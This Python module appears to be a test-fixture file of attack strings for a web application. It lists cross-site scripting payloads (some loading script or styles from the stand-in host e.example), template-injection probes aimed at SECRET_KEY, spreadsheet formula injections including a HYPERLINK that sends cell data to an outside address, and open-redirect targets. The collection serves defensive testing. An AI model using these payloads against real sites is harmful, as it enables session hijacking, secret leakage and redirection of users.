"""Payloads of attacks: scripts, template code, spreadsheet formulas and redirect targets."""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from typing import Final

MAX_NAME: Final = 120

#: Forty ways to run a script, in a name, an attribute, an address, a style or a script.
SCRIPTS: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//e.example/x.js></script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    '"><img src=x onerror=a()>',
    "<img src='javascript:alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x:x" onerror="alert(1)"',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>Ana</a>",
    "<a href='jav&#x09;ascript:alert(1)'>Ana</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<style>@import'//e.example/x.css';</style>",
    "<link rel=stylesheet href=//e.example>",
    "<meta http-equiv=refresh content='0;url=//e.example'>",
    "<base href=//e.example>",
    "<form action=//e.example><button>Ana",
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "<!--><script>alert(1)</script>-->",
    "&lt;script&gt;alert(1)&lt;/script&gt; \uff1cscript\uff1e",
)
#: What a template language, or a careless ``%`` or ``format``, would evaluate.
TEMPLATES: Final = (
    "{{7*7}}{% load x %}{x.__class__}",
    "{% include 'admin/base.html' %} Ana",
    "{{ signature.delete }} {{ settings.SECRET_KEY }}",
    "%(name)s %(pledge_url)s 100% %s %n",
    "{0.__class__} {settings.SECRET_KEY} {",
    "${x.__class__} #{7*7} <%= 7*7 %>",
)
#: Spreadsheet formulas: requirement, as typed, and as stored (without leading and trailing spaces).
FORMULAS: Final = (
    ("I01", '=HYPERLINK("http://x/?"&A1,"y")', '=HYPERLINK("http://x/?"&A1,"y")'),
    ("I02", "+1+1", "+1+1"),
    ("I02", "-1+1", "-1+1"),
    ("I02", "@SUM(1)", "@SUM(1)"),
    ("I03", "\t=1", "=1"),
    ("I03", "\r=1", "=1"),
)
#: Targets of an open redirect.
REDIRECT_TARGETS: Final = (
    "//e.example",
    "///e.example",
    "////e.example",
    "/\\e.example",
    "\\\\e.example",
    "\\/e.example",
    "/\t/e.example",
    "\t//e.example",
    "/%09/e.example",
    "//e.example/%2f..",
    "https:e.example",
    "https:/e.example",
    "https:///e.example",
    "https://e.example",
    "HTTPS://E.EXAMPLE",
    "http://good@e.example",
    "http://testserver@e.example",
    "http://testserver.e.example",
    "//testserver@e.example",
    "http://[::1]@e.example",
    "javascript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\u2215\u2215e.example",
    "//e\u3002example",
)


def names(texts: Iterable[str]) -> Iterator[str]:
    """Yield ``texts`` joined into as few names as possible: each name is tested by a slow journey."""
    name = ""
    for text in texts:
        if name and len(name) + 1 + len(text) > MAX_NAME:
            yield name
            name = ""
        name = f"{name} {text}" if name else text
    yield name
